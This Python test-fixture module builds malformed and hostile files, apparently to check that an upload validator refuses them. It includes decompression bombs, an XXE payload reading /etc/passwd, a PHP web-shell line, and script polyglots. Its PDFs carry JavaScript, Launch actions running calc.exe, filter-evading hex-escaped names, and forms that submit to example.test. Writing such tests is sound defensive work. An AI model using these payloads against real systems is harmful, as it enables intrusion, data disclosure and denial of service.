"""Files as an enemy, a camera or a broken scanner would make them."""

import struct
import zlib
from collections.abc import Callable
from io import BytesIO
from typing import Any

import pikepdf
from pikepdf import Array, Dictionary, Name, String
from PIL import Image

SECRET = b"canary-6f1d"


def picture(
    kind: str = "JPEG", size: tuple[int, int] = (60, 40), colour: str = "peru", **saving: Any
) -> bytes:
    out = BytesIO()
    Image.new("RGB", size, colour).save(out, kind, **saving)
    return out.getvalue()


def photo(orientation: int = 1) -> bytes:
    """Left half black, right half white, with the camera's place, name and thumbnail in it."""
    image = Image.new("RGB", (60, 40), "white")
    image.paste("black", (0, 0, 30, 40))
    exif = Image.Exif()
    exif[0x0112] = orientation
    exif[0x010F] = SECRET.decode()
    exif.get_ifd(0x8825)[1] = "N"
    exif.get_ifd(0x8825)[2] = (52.0, 31.0, 12.0)
    out = BytesIO()
    image.save(out, "JPEG", exif=exif, comment=SECRET, icc_profile=b"icc " + SECRET, quality=95)
    return out.getvalue()


def chunk(kind: bytes, data: bytes, crc: int | None = None) -> bytes:
    right = zlib.crc32(kind + data) if crc is None else crc
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", right)


def png_header(width: int, height: int) -> bytes:
    """A PNG that says it is so large, and holds next to nothing."""
    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    data = zlib.compress(b"\0" * 10_000)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", data) + chunk(b"IEND", b"")


def bad_crc() -> bytes:
    good = picture("PNG")
    at = good.index(b"IDAT")
    length = struct.unpack(">I", good[at - 4 : at])[0]
    end = at + 4 + length
    return good[:end] + b"\0\0\0\0" + good[end + 4 :]


def many_scans() -> bytes:
    """A progressive JPEG whose last scan comes a thousand times more."""
    good = picture("JPEG", progressive=True)
    at = good.rindex(b"\xff\xda")
    return good[:at] + good[at:-2] * 1000 + b"\xff\xd9"


def text_bomb() -> bytes:
    """A PNG whose comment unpacks to 80 MB."""
    good = picture("PNG")
    note = chunk(b"zTXt", b"Comment\0\0" + zlib.compress(b"a" * 80_000_000))
    return good[:33] + note + good[33:]


NOT_PICTURES = {
    "svg": b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
    "html": b"<!DOCTYPE html><script>alert(1)</script>",
    "gif": b"GIF89a/*\x01\x00\x01\x00\x80\x00\x00*/=1;alert(1)//",
    "zip": b"PK\x03\x04\x14\x00\x00\x00",
    "xml": b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><x>&a;</x>',
    "php": b"<?php system($_GET['c']);",
    "elf": b"\x7fELF\x02\x01\x01",
    "bmp": b"BM\x3a\x00\x00\x00",
    "webp": b"RIFF\x24\x00\x00\x00WEBPVP8 ",
    "heic": b"\x00\x00\x00\x18ftypheic",
    "postscript": b"%!PS-Adobe-3.0\n%PDF-1.4",
    "zip, then pdf": b"PK\x03\x04" + b"\0" * 100 + b"%PDF-1.7",
    "spaces": b"   \n",
}

Edit = Callable[[pikepdf.Pdf], None]


def pdf(edit: Edit | None = None, pages: int = 1, **saving: Any) -> bytes:
    """A paper of empty pages, changed as the edit says."""
    paper = pikepdf.new()
    for _ in range(pages):
        paper.add_blank_page(page_size=(595, 842))
    paper.docinfo["/Author"] = SECRET.decode()
    with paper.open_metadata() as about:
        about["dc:title"] = SECRET.decode()
    if edit:
        edit(paper)
    out = BytesIO()
    paper.save(out, **saving)
    return out.getvalue()


def _script(paper: pikepdf.Pdf) -> None:
    paper.Root.OpenAction = Dictionary(S=Name.JavaScript, JS=String("app.alert(1)"))


def _script_by_name(paper: pikepdf.Pdf) -> None:
    action = Dictionary(S=Name.JavaScript, JS=String("app.alert(1)"))
    paper.Root.Names = Dictionary(JavaScript=Dictionary(Names=Array([String("a"), action])))


def _launch(paper: pikepdf.Pdf) -> None:
    paper.Root.OpenAction = paper.make_indirect(Dictionary(S=Name.Launch, F=String("calc.exe")))


def _launch_on_click(paper: pikepdf.Pdf) -> None:
    _annotate(paper, Dictionary(S=Name.Launch, F=String("calc.exe")))


def _annotate(paper: pikepdf.Pdf, action: Dictionary) -> None:
    link = Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=Array([0, 0, 99, 99]), A=action)
    paper.pages[0].Annots = Array([paper.make_indirect(link)])


def _on_opening_a_page(paper: pikepdf.Pdf) -> None:
    paper.pages[0].AA = Dictionary(O=Dictionary(S=Name.URI, URI=String("https://example.test/seen")))


def _sends(paper: pikepdf.Pdf) -> None:
    _annotate(paper, Dictionary(S=Name.SubmitForm, F=String("https://example.test/")))


def _xfa(paper: pikepdf.Pdf) -> None:
    paper.Root.AcroForm = Dictionary(Fields=Array(), XFA=paper.make_stream(b"<xdp/>"))


def _embeds(paper: pikepdf.Pdf) -> None:
    paper.attachments["a.exe"] = b"MZ"


def _film(paper: pikepdf.Pdf) -> None:
    note = Dictionary(Type=Name.Annot, Subtype=Name.RichMedia, Rect=Array([0, 0, 99, 99]))
    paper.pages[0].Annots = Array([note])


def _local_link(paper: pikepdf.Pdf) -> None:
    _annotate(paper, Dictionary(S=Name.URI, URI=String(" JavaScript:alert(1)")))


def _stream_from_outside(paper: pikepdf.Pdf) -> None:
    outside = paper.make_stream(b"")
    outside["/F"] = String("/etc/passwd")
    paper.pages[0].Contents = outside


def _deep(paper: pikepdf.Pdf) -> None:
    inner = Dictionary(S=Name.JavaScript)
    for _ in range(60):
        inner = Dictionary(X=Array([inner]))
    paper.Root.Deep = inner


def _on_every_key(paper: pikepdf.Pdf) -> None:
    typed = Dictionary(
        FT=Name.Tx, T=String("a"), AA=Dictionary(K=Dictionary(S=Name.JavaScript, JS=String("x")))
    )
    paper.Root.AcroForm = Dictionary(Fields=Array([paper.make_indirect(typed)]))


def _then_launch(paper: pikepdf.Pdf) -> None:
    after = Dictionary(S=Name.Launch, F=String("calc.exe"))
    _annotate(paper, Dictionary(S=Name.URI, URI=String("https://example.test/"), Next=after))


def _in_the_contents(paper: pikepdf.Pdf) -> None:
    line = Dictionary(Title=String("x"), A=Dictionary(S=Name.Launch, F=String("calc.exe")))
    paper.Root.Outlines = paper.make_indirect(Dictionary(First=paper.make_indirect(line)))


def _goes(kind: str) -> Edit:
    return lambda paper: _annotate(paper, Dictionary(S=Name(f"/{kind}"), F=String("//example.test/x")))


def _wide(edge: float) -> Edit:
    def edit(paper: pikepdf.Pdf) -> None:
        paper.pages[0].MediaBox = Array([0, 0, edge, 842])

    return edit


def with_photo(*before: str) -> bytes:
    """A camera's photo on a page, packed as the filters say before its own."""

    def edit(paper: pikepdf.Pdf) -> None:
        taken = photo()
        shown = paper.make_stream(taken if not before else zlib.compress(taken))
        shown.Type, shown.Subtype, shown.ColorSpace = Name.XObject, Name.Image, Name.DeviceRGB
        shown.Width, shown.Height, shown.BitsPerComponent = 60, 40, 8
        names = [Name(f"/{name}") for name in (*before, "DCTDecode")]
        shown.Filter = Array(names) if before else names[0]
        paper.pages[0].Resources = Dictionary(XObject=Dictionary(I=shown))
        paper.pages[0].Contents = paper.make_stream(b"60 0 0 40 0 0 cm /I Do")

    return pdf(edit)


def escaped() -> bytes:
    """The script's names written in hexadecimal, as the format allows."""
    plain = pdf(_script, object_stream_mode=pikepdf.ObjectStreamMode.disable)
    return plain.replace(b"/JavaScript", b"/#4aavaScript").replace(b"/JS", b"/J#53")


def page_loop() -> bytes:
    """A tree of pages that has itself for a branch."""
    return (
        b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n"
        b"2 0 obj<</Type/Pages/Count 9/Kids[2 0 R 2 0 R]>>endobj\n"
        b"trailer<</Root 1 0 R/Size 3>>\nstartxref\n0\n%%EOF"
    )


def xref_loop() -> bytes:
    """A paper whose table of contents names itself as the one before it."""
    plain = pdf(object_stream_mode=pikepdf.ObjectStreamMode.disable)
    at = plain.rindex(b"\nxref") + 1
    return plain.replace(b"/Size", b"/Prev %d /Size" % at)


def object_bomb() -> bytes:
    """Objects packed into a stream of 2 MB that unpacks to 2 GB."""
    packer = zlib.compressobj(1)
    start = packer.compress(b" ") + packer.flush(zlib.Z_FULL_FLUSH)
    # After a full flush the packer has forgotten everything, so what it gives can be said again and again.
    block = packer.compress(b" " * 2**24) + packer.flush(zlib.Z_FULL_FLUSH)
    data = start + block * 128 + packer.flush()
    return (
        b"%%PDF-1.5\n1 0 obj<</Type/Catalog/Pages 3 0 R>>endobj\n"
        b"2 0 obj<</Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length %d>>stream\n"
        % len(data)
        + data
        + b"\nendstream endobj\ntrailer<</Root 1 0 R/Size 4>>\nstartxref\n0\n%%EOF"
    )


REFUSED_PDFS: dict[str, tuple[str, Callable[[], bytes]]] = {
    "script": ("program that would run", lambda: pdf(_script)),
    "script among the names": ("program that would run", lambda: pdf(_script_by_name)),
    "script with escaped names": ("program that would run", escaped),
    "script sixty levels down": ("program that would run", lambda: pdf(_deep)),
    "launch": ("open other programs", lambda: pdf(_launch)),
    "launch on a click": ("open other programs", lambda: pdf(_launch_on_click)),
    "address on opening a page": ("open other programs", lambda: pdf(_on_opening_a_page)),
    "form that sends": ("sends what is typed", lambda: pdf(_sends)),
    "form of its own kind": ("sends what is typed", lambda: pdf(_xfa)),
    "file inside": ("other files packed inside", lambda: pdf(_embeds)),
    "film": ("sound, film", lambda: pdf(_film)),
    "script in a link": ("open other programs", lambda: pdf(_local_link)),
    "script on every key": ("open other programs", lambda: pdf(_on_every_key)),
    "launch after a link": ("open other programs", lambda: pdf(_then_launch)),
    "launch among the contents": ("open other programs", lambda: pdf(_in_the_contents)),
    "another file": ("open other programs", lambda: pdf(_goes("GoToR"))),
    "data from outside": ("open other programs", lambda: pdf(_goes("ImportData"))),
    "photo packed three times": ("packed more than once", lambda: with_photo("FlateDecode", "FlateDecode")),
    "page a mile wide": ("damaged", lambda: pdf(_wide(1e12))),
    "page without end": ("damaged", lambda: pdf(_wide(14_401))),
    "stream from outside": ("open other programs", lambda: pdf(_stream_from_outside)),
    "locked": ("password", lambda: pdf(encryption=pikepdf.Encryption(owner="o", user="u"))),
    "locked for changes": ("password", lambda: pdf(encryption=pikepdf.Encryption(owner="o", user=""))),
    "301 pages": ("1 to 300 pages", lambda: pdf(pages=301)),
    "no page": ("1 to 300 pages", lambda: pdf(pages=0)),
    "pages in a loop": ("damaged", page_loop),
    "nothing but a beginning": ("damaged", lambda: b"%PDF-1.7\n"),
    "zip before it": ("Only JPEG", lambda: b"PK\x03\x04" + pdf()),
}
